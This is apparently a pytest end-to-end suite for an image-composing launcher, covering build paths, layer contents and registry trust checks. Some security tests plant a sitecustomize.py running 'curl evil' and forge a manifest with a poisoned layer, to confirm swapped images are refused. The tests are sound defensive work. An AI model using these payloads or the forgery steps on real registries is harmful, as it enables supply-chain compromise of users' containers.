"""The fast image path end to end: a real git repository, the real Distribution registry behind
the emulator's service proxy, the real `kubernetes` client, and the composed images read back
with skopeo (and run with buildah where it works): a code change reaches an Experiment with no
build Job, a dependency change builds one, and what cannot be composed is built by Kaniko with
the reason said."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tarfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import requests

from launch import compose, registry, registry_push
from launch.errors import ExitCode
from tests.compose_lab import (
    BUSYBOX,
    DOCKERFILE,
    EXAMPLE,
    base_layers,
    build_args,
    kaniko_push,
    project_files,
)
from tests.gitrepo import GitRepo, make_repo
from tests.kube_emulator import KanikoController, KubeEmulator, running
from tests.registry_server import (
    Registry,
    layer_of,
    push_image,
    push_tiny_image,
    running_registry,
)  # fmt: skip
from tests.test_submit import creates, invoke

pytestmark = pytest.mark.timeout(300)

NS = "default"
RUN = ["--no-preflight", "search.yaml", "--", "python", "train.py"]


@dataclass
class Lab:
    repo: GitRepo
    kube: KubeEmulator
    registry: Registry
    kaniko: KanikoController
    builds: list[dict[str, Any]]  # what each build Job was asked to make


@pytest.fixture
def lab(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Lab]:
    files = project_files()
    repo = make_repo(tmp_path, "lab-project", files=files, remote=False)
    os.chmod(repo.path / "scripts/run.sh", 0o755)
    os.symlink("train.py", repo.path / "latest.py")
    repo.commit("modes and a symlink")
    repo.git("remote", "add", "origin", "https://git.example.com/lab/lab-project.git")
    repo.git("update-ref", "refs/remotes/origin/main", "HEAD")
    repo.git("branch", "--set-upstream-to=origin/main")
    builds: list[dict[str, Any]] = []
    with running_registry(tmp_path) as reg, running() as kube:
        kube.register_proxy("launch-system", "registry", 5000, ("127.0.0.1", reg.port))
        kubeconfig = kube.write_kubeconfig(tmp_path / "kubeconfig")

        env = {
            "KUBECONFIG": str(kubeconfig),
            "LAUNCH_BACKEND": "katib",
            "LAUNCH_HOME": str(tmp_path / "state"),
            "XDG_CONFIG_HOME": str(tmp_path / "xdg"),
            "NO_COLOR": "1",
        }
        for key, value in env.items():
            monkeypatch.setenv(key, value)
        monkeypatch.chdir(repo.path)
        kaniko = KanikoController(kube, on_success=kaniko_push(reg, builds))
        kaniko.auto("succeed")
        yield Lab(repo, kube, reg, kaniko, builds)


def trial_image(kube: KubeEmulator, name: str) -> str:
    exp = kube.get_object("experiments", NS, name)
    assert exp is not None
    spec = exp["spec"]["trialTemplate"]["trialSpec"]["spec"]["template"]["spec"]
    return str(spec["containers"][0]["image"])


def advance(repo: GitRepo, files: dict[str, str | bytes], message: str) -> str:
    sha = repo.commit(message, files)
    repo.git("update-ref", "refs/remotes/origin/main", "HEAD")
    return sha


def skopeo_copy(reg: Registry, repository: str, tag: str, dest: Path) -> dict[str, Any]:
    """`skopeo copy` the image into an OCI layout (skopeo checks every blob's digest); its
    manifest as a dict."""
    if shutil.which("skopeo") is None:
        pytest.skip("skopeo is not installed (apt-get install skopeo)")
    subprocess.run(
        ["skopeo", "copy", "--quiet", "--src-tls-verify=false",
         f"docker://{reg.host}/{repository}:{tag}", f"oci:{dest}:{tag}"],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    index = json.loads((dest / "index.json").read_text())
    digest = index["manifests"][0]["digest"].split(":", 1)[1]
    return dict(json.loads((dest / "blobs" / "sha256" / digest).read_bytes()))


def blob(layout: Path, digest: str) -> Path:
    return layout / "blobs" / "sha256" / digest.split(":", 1)[1]


def test_first_launch_builds_the_dependencies_a_code_change_builds_nothing(
    lab: Lab, tmp_path: Path
) -> None:
    result = invoke("--name", "first", "--detach", *RUN)
    assert result.exit_code == 0, result.output
    # One Kaniko Job, for the dependency image, from an uploaded context (no git clone).
    assert creates(lab.kube, "jobs") == 1
    [deps] = lab.builds
    assert deps["tag"].startswith("deps-")
    assert any(a.startswith("--context=tar://") for a in deps["args"])
    commit = lab.repo.head()
    digest = registry.manifest_digest(
        repository="lab-project", tag=commit, base_url=lab.registry.url
    )
    assert digest is not None
    assert trial_image(lab.kube, "first") == f"127.0.0.1:30500/lab-project@{digest}"
    assert "composed image lab-project:" in result.stderr

    # A code-only commit: zero Jobs, the Experiment pinned to the new composed image.
    lab.kube.reset_requests()
    second = advance(lab.repo, {"train.py": (EXAMPLE / "train.py").read_text() + "\n# v2\n"}, "v2")
    result = invoke("--name", "second", "--detach", *RUN)
    assert result.exit_code == 0, result.output
    assert creates(lab.kube, "jobs") == 0
    assert "dependency image deps-" in result.stderr and "no build" in result.stderr
    new = registry.manifest_digest(repository="lab-project", tag=second, base_url=lab.registry.url)
    assert new is not None and new != digest
    assert trial_image(lab.kube, "second") == f"127.0.0.1:30500/lab-project@{new}"

    # The lock file changes: a new dependency image, one Job.
    advance(lab.repo, {"requirements.lock": "numpy==2.2.0\n"}, "bump numpy")
    result = invoke("--name", "third", "--detach", *RUN)
    assert result.exit_code == 0, result.output
    assert creates(lab.kube, "jobs") == 1
    assert len({b["tag"] for b in lab.builds}) == 2


def test_the_composed_image_holds_the_commit_file_by_file(lab: Lab, tmp_path: Path) -> None:
    result = invoke("--name", "files", "--detach", *RUN)
    assert result.exit_code == 0, result.output
    commit = lab.repo.head()
    layout = tmp_path / "layout"
    manifest = skopeo_copy(lab.registry, "lab-project", commit, layout)
    config = json.loads(blob(layout, manifest["config"]["digest"]).read_bytes())
    layers = manifest["layers"]
    assert len(layers) == len(base_layers()) + 1
    # The config's diff_ids are the layers' uncompressed digests, one each.
    import gzip
    import hashlib

    diff_ids = [
        "sha256:"
        + hashlib.sha256(gzip.decompress(blob(layout, d["digest"]).read_bytes())).hexdigest()
        for d in layers
    ]
    assert config["rootfs"]["diff_ids"] == diff_ids
    # Unpack every layer in order, as a runtime would.
    root = tmp_path / "rootfs"
    root.mkdir()
    for layer in layers:
        with tarfile.open(blob(layout, layer["digest"])) as tar:
            tar.extractall(root, filter="tar")
    app = root / "workspace"
    assert (app / "train.py").read_text() == (lab.repo.path / "train.py").read_text()
    assert (app / "pkg/deep/nested/module.py").read_text() == "VALUE = 42\n"
    assert (app / "scripts/run.sh").stat().st_mode & 0o777 == 0o755
    assert (app / "train.py").stat().st_mode & 0o777 == 0o644
    assert (app / "latest.py").is_symlink() and os.readlink(app / "latest.py") == "train.py"
    assert not (app / "data").exists() and not (app / "model.ckpt").exists()  # .dockerignore
    assert (root / "bin/busybox").is_file()  # the dependency image's layers are all there
    # The metadata after the source copy, and what launch says the image holds.
    cfg = config["config"]
    assert "APP_HOME=/workspace" in cfg["Env"] and "MODE=sweep" in cfg["Env"]
    assert cfg["Cmd"] == ["python", "train.py"] and cfg["WorkingDir"] == "/workspace"
    labels = cfg["Labels"]
    assert labels["team"] == "vision research"
    assert labels["org.opencontainers.image.revision"] == commit
    assert labels[compose.DEPENDENCY_LABEL] == lab.builds[0]["tag"].removeprefix("deps-")
    assert labels[compose.SOURCE_DIR_LABEL] == "/workspace"
    assert "launch" in config["history"][-1]["created_by"]


def test_composing_the_same_commit_twice_gives_the_same_digest(lab: Lab) -> None:
    assert invoke("--name", "once", "--detach", *RUN).exit_code == 0
    commit = lab.repo.head()
    first = registry.manifest_digest(
        repository="lab-project", tag=commit, base_url=lab.registry.url
    )
    # Delete the tag (as a registry clean-up would), launch again: composed again, same bytes.
    response = requests.delete(f"{lab.registry.url}/v2/lab-project/manifests/{first}", timeout=10)
    assert response.status_code == 202
    lab.kube.reset_requests()
    result = invoke("--name", "twice", "--detach", *RUN)
    assert result.exit_code == 0, result.output
    assert creates(lab.kube, "jobs") == 0
    again = registry.manifest_digest(
        repository="lab-project", tag=commit, base_url=lab.registry.url
    )
    assert again == first


def test_a_run_after_the_source_copy_builds_with_kaniko_and_says_why(lab: Lab) -> None:
    advance(lab.repo, {"Dockerfile": DOCKERFILE + "RUN pip install -e .\n"}, "editable install")
    result = invoke("--name", "slow", "--detach", *RUN)
    assert result.exit_code == 0, result.output
    assert "RUN pip install -e ." in result.stderr and "move it before" in result.stderr
    [job] = lab.builds
    assert job["tag"] == lab.repo.head()  # the whole image, by Kaniko
    # --build compose refuses it instead (exit 2), before anything is created.
    lab.kube.reset_requests()
    refused = invoke("--name", "strict", "--detach", "--build", "compose", *RUN)
    assert refused.exit_code == ExitCode.USAGE, refused.output
    assert "error:" in refused.stderr and "hint:" in refused.stderr
    assert creates(lab.kube, "jobs") == 0 and creates(lab.kube, "experiments") == 0


def test_a_dockerfile_launch_cannot_read(lab: Lab) -> None:
    advance(lab.repo, {"Dockerfile": "RUN echo no FROM\n" + DOCKERFILE}, "broken Dockerfile")
    strict = invoke("--name", "strict", "--detach", "--build", "compose", *RUN)
    assert strict.exit_code == ExitCode.USAGE, strict.output
    assert "Dockerfile" in strict.stderr and "hint:" in strict.stderr
    assert creates(lab.kube, "jobs") == 0 and creates(lab.kube, "experiments") == 0
    # auto: Kaniko is the judge of its own Dockerfile; launch says why it builds.
    result = invoke("--name", "auto", "--detach", *RUN)
    assert "launch cannot read" in result.stderr
    assert len(lab.builds) == 1 and lab.builds[0]["tag"] == lab.repo.head()


def test_a_deleted_dependency_image_is_built_again(lab: Lab) -> None:
    assert invoke("--name", "one", "--detach", *RUN).exit_code == 0
    deps_tag = lab.builds[0]["tag"]
    deps = registry.manifest_digest(
        repository="lab-project", tag=deps_tag, base_url=lab.registry.url
    )
    assert requests.delete(f"{lab.registry.url}/v2/lab-project/manifests/{deps}", timeout=10).ok
    advance(lab.repo, {"train.py": "print('v2')\n"}, "v2")
    result = invoke("--name", "two", "--detach", *RUN)
    assert result.exit_code == 0, result.output
    assert [b["tag"] for b in lab.builds] == [deps_tag, deps_tag]


def test_a_dependency_layer_lost_from_the_registry_is_an_error_not_a_broken_image(
    lab: Lab,
) -> None:
    assert invoke("--name", "one", "--detach", *RUN).exit_code == 0
    deps_tag = lab.builds[0]["tag"]
    # Garbage collection took a layer blob but left the tag: the manifest PUT is refused.
    transport = registry.HttpTransport(lab.registry.url)
    _, body, _ = registry.get_manifest(
        repository="lab-project", reference=deps_tag, transport=transport
    )
    layer = json.loads(body)["layers"][3]["digest"]
    gone = requests.delete(f"{lab.registry.url}/v2/lab-project/blobs/{layer}", timeout=10)
    assert gone.status_code == 202
    advance(lab.repo, {"train.py": "print('v3')\n"}, "v3")
    lab.kube.reset_requests()
    result = invoke("--name", "three", "--detach", *RUN)
    assert result.exit_code != 0
    assert "error:" in result.stderr and "--rebuild" in result.stderr
    assert creates(lab.kube, "experiments") == 0
    assert (
        registry.manifest_digest(
            repository="lab-project", tag=lab.repo.head(), base_url=lab.registry.url
        )
        is None
    )


def test_an_index_without_the_platform_falls_back_to_kaniko(lab: Lab) -> None:
    from tests.registry_server import push_index

    def arm_only(job: dict[str, Any], _digest: str) -> str:
        repository, tag, labels, args = build_args(job)
        lab.builds.append({"tag": tag, "args": args, "job": job})
        if tag.startswith("deps-"):
            return push_index(lab.registry.url, repository, tag, architectures=("arm64",))[0]
        return push_tiny_image(lab.registry.url, repository, tag, labels=labels)

    lab.kaniko.on_success = arm_only
    result = invoke("--name", "arm", "--detach", *RUN)
    assert result.exit_code == 0, result.output
    assert "building the whole image with Kaniko" in result.stderr
    assert [b["tag"][:5] for b in lab.builds] == ["deps-", lab.repo.head()[:5]]


def test_render_shows_the_path_and_the_dependency_key(lab: Lab) -> None:
    result = invoke("render", "--json", "--no-preflight", "search.yaml", "--", "python", "train.py")
    assert result.exit_code == 0, result.output
    doc = json.loads(result.stdout)
    build = doc["build"]
    assert build["path"] == "compose" and len(build["dependencyKey"]) == 64
    assert build["sourceCopy"] == {"line": 6, "dest": "."}
    args = doc["buildJob"]["spec"]["template"]["spec"]["containers"][0]["args"]
    assert (
        f"--destination=registry.launch-system.svc.cluster.local:5000/lab-project:deps-{build['dependencyKey']}"
        in args
    )
    text = invoke("render", "--no-preflight", "search.yaml", "--", "python", "train.py")
    assert "# image: composed in the registry" in text.stdout
    kaniko = invoke(
        "render", "--json", "--build", "kaniko", "search.yaml", "--", "python", "train.py"
    )
    assert json.loads(kaniko.stdout)["build"] == {"path": "kaniko"}
    assert lab.kube.requests == []


def test_the_composed_image_runs_a_command_that_reads_the_commit(lab: Lab, tmp_path: Path) -> None:
    if shutil.which("buildah") is None or not BUSYBOX.is_file():
        pytest.skip("needs buildah and a static busybox (apt-get install buildah busybox-static)")
    assert invoke("--name", "run", "--detach", *RUN).exit_code == 0
    storage = ["--storage-driver", "vfs", "--root", str(tmp_path / "storage"),
               "--runroot", str(tmp_path / "run")]  # fmt: skip
    image = f"docker://{lab.registry.host}/lab-project:{lab.repo.head()}"
    try:
        container = subprocess.run(
            ["buildah", *storage, "from", "--tls-verify=false", image],
            check=True, capture_output=True, text=True, timeout=120,
        ).stdout.strip()  # fmt: skip
    except subprocess.CalledProcessError as err:
        pytest.skip(f"buildah cannot pull here: {err.stderr.strip()[-200:]}")
    done = subprocess.run(
        ["buildah", *storage, "run", "--isolation", "chroot", container, "--",
         "/bin/busybox", "sh", "-c", "cat pkg/deep/nested/module.py && pwd && ls -l scripts/run.sh"],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    subprocess.run(["buildah", *storage, "rm", "--all"], capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "VALUE = 42" in done.stdout and "/workspace" in done.stdout
    assert "-rwxr-xr-x" in done.stdout


def test_an_oci_dependency_image_gives_an_oci_image(lab: Lab, tmp_path: Path) -> None:
    lab.kaniko.on_success = kaniko_push(lab.registry, lab.builds, oci=True)
    result = invoke("--name", "oci", "--detach", *RUN)
    assert result.exit_code == 0, result.output
    manifest = skopeo_copy(lab.registry, "lab-project", lab.repo.head(), tmp_path / "oci")
    assert manifest["mediaType"] == "application/vnd.oci.image.manifest.v1+json"
    assert manifest["config"]["mediaType"] == "application/vnd.oci.image.config.v1+json"
    assert manifest["layers"][-1]["mediaType"] == "application/vnd.oci.image.layer.v1.tar+gzip"


def _swap_commit_tag(lab: Lab, *, source: bytes) -> str:
    """Someone pushes an image under the commit's tag with launch's labels copied over: a
    poisoned base layer plus a source layer holding `source` as train.py. Its digest."""
    commit = lab.repo.head()
    key = lab.builds[0]["tag"].removeprefix("deps-")
    labels = {
        "org.opencontainers.image.revision": commit,
        compose.DEPENDENCY_LABEL: key,
        compose.SOURCE_DIR_LABEL: "/workspace",
    }
    poisoned = {"usr/lib/python3/sitecustomize.py": (b"import os; os.system('curl evil')\n", 0o644)}
    return push_image(
        lab.registry.url, "lab-project", commit, config={"Labels": labels},
        layers=[*base_layers(), poisoned, {"workspace/train.py": (source, 0o644)}],
    )  # fmt: skip


def test_a_swapped_commit_tag_is_never_run(lab: Lab) -> None:
    """image_trust = local (the default): the relaunch runs the digest this clone composed, not
    whatever the tag names now, and reads no tag to decide."""
    assert invoke("--name", "one", "--detach", *RUN).exit_code == 0
    ours = trial_image(lab.kube, "one").rsplit("@", 1)[1]
    swapped = _swap_commit_tag(lab, source=b"import os; os.system('curl evil')\n")
    lab.kube.reset_requests()
    result = invoke("--name", "two", "--detach", *RUN)
    assert result.exit_code == 0, result.output
    assert "already built by this clone" in result.stderr
    assert trial_image(lab.kube, "two").endswith("@" + ours) and ours != swapped
    assert creates(lab.kube, "jobs") == 0


def _forge_on_poisoned_base(lab: Lab, digest: str, tag: str) -> str:
    """What someone who can push does to get past labels: the real image's manifest and config
    with a poisoned layer slipped in under its source layer, pushed under `tag`. Its digest."""
    transport = registry.HttpTransport(lab.registry.url, timeout_s=5)
    media_type, body, _ = registry.get_manifest(
        repository="lab-project", reference=digest, transport=transport
    )
    manifest = json.loads(body)
    config = json.loads(
        registry.get_blob(
            repository="lab-project", digest=manifest["config"]["digest"], transport=transport
        )
    )
    poison, diff_id = layer_of({"usr/lib/python3/sitecustomize.py": (b"evil()\n", 0o644)})
    layer = registry_push.upload_blob(repository="lab-project", data=poison, transport=transport)
    last = manifest["layers"][-1]
    manifest["layers"].insert(-1, {**last, "digest": layer, "size": len(poison)})
    config["rootfs"]["diff_ids"].insert(-1, diff_id)
    data = json.dumps(config).encode()
    manifest["config"] = {**manifest["config"], "digest": registry_push.upload_blob(
        repository="lab-project", data=data, transport=transport), "size": len(data)}  # fmt: skip
    return registry_push.put_manifest(
        repository="lab-project", tag=tag, media_type=media_type,
        data=json.dumps(manifest).encode(), transport=transport,
    )  # fmt: skip


def test_a_copied_source_layer_on_a_poisoned_base_is_not_trusted(
    lab: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The forgery labels cannot catch: the commit's own labels and source layer over a
    poisoned layer. `image_trust = labels` reuses it (that setting trusts everyone who can
    push); by default a clone that never made the image composes its own, and does not trust
    the dependency tag either."""
    assert invoke("--name", "one", "--detach", *RUN).exit_code == 0
    ours = trial_image(lab.kube, "one").rsplit("@", 1)[1]
    commit = lab.repo.head()
    deps_tag = lab.builds[0]["tag"]
    transport = registry.HttpTransport(lab.registry.url, timeout_s=5)
    deps = registry.manifest_digest(repository="lab-project", tag=deps_tag, transport=transport)
    assert deps is not None
    _forge_on_poisoned_base(lab, deps, deps_tag)
    swapped = _forge_on_poisoned_base(lab, ours, commit)

    (Path(os.environ["LAUNCH_HOME"]) / "images.json").unlink()  # another clone: nothing recorded
    fresh = invoke("--name", "fresh", "--detach", *RUN)
    assert fresh.exit_code == 0, fresh.output
    assert "building the dependency image" in fresh.stderr and len(lab.builds) == 2
    # The stand-in Kaniko is reproducible: the rebuilt dependency image is the first one, so the
    # composed image is too; the forgery is not run.
    assert trial_image(lab.kube, "fresh").endswith("@" + ours) and ours != swapped

    monkeypatch.setenv("LAUNCH_IMAGE_TRUST", "labels")
    assert _forge_on_poisoned_base(lab, ours, commit) == swapped
    trusting = invoke("--name", "trusting", "--detach", *RUN)
    assert trusting.exit_code == 0, trusting.output
    assert trial_image(lab.kube, "trusting").endswith("@" + swapped)


def test_labels_trust_refuses_other_files_under_the_tag(
    lab: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    """image_trust = labels: a tag whose source layer is not the commit's is an error."""
    assert invoke("--name", "one", "--detach", *RUN).exit_code == 0
    _swap_commit_tag(lab, source=b"import os; os.system('curl evil')\n")
    monkeypatch.setenv("LAUNCH_IMAGE_TRUST", "labels")
    lab.kube.reset_requests()
    result = invoke("--name", "two", "--detach", *RUN)
    assert result.exit_code == ExitCode.USAGE, result.output
    assert "source layer is not this commit's files" in result.stderr
    assert "--rebuild" in result.stderr
    assert creates(lab.kube, "experiments") == 0 and creates(lab.kube, "jobs") == 0


def test_render_allow_dirty_lists_the_source_layer_it_would_upload(lab: Lab) -> None:
    (lab.repo.path / "extra.py").write_text("print('new')\n")
    (lab.repo.path / "data").mkdir(exist_ok=True)
    (lab.repo.path / "data" / "fresh.bin").write_bytes(b"\1" * 100)  # .dockerignore: data/
    result = invoke("render", "--allow-dirty", "--json", "--no-preflight", *RUN[1:])
    assert result.exit_code == 0, result.output
    doc = json.loads(result.stdout)
    assert doc["build"]["path"] == "compose"
    files = doc["upload"]["files"]
    assert "extra.py" in files and "train.py" in files
    assert not any(f.startswith("data/") for f in files) and "model.ckpt" not in files
    text = invoke("render", "--allow-dirty", "--no-preflight", *RUN[1:]).stdout
    assert "# the source layer is uploaded:" in text and "#   extra.py" in text
